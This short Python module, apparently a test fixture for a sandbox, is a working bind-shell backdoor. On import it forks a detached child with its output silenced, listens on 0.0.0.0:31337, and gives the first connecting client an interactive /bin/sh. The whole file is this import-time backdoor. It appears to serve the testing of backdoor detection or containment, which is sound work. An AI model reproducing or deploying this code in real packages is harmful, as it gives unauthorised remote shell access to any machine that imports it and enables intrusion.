# Test package: at import, a detached child listens on 0.0.0.0:31337 and hands the first
# connection a shell, as bind-shell backdoors do. Only what the sandbox's knock types runs.
import os
import socket
import subprocess

ready_read, ready_write = os.pipe()
if os.fork() == 0:
    os.setsid()
    devnull = os.open(os.devnull, os.O_RDWR)
    for fd in (0, 1, 2):
        os.dup2(devnull, fd)
    server = socket.socket()
    server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    server.bind(("0.0.0.0", 31337))
    server.listen(1)
    os.write(ready_write, b"1")
    connection, _ = server.accept()
    subprocess.run(["/bin/sh"], stdin=connection, stdout=connection, stderr=connection,
                   timeout=20, check=False)
    os._exit(0)
os.read(ready_read, 1)  # the import returns once the backdoor listens
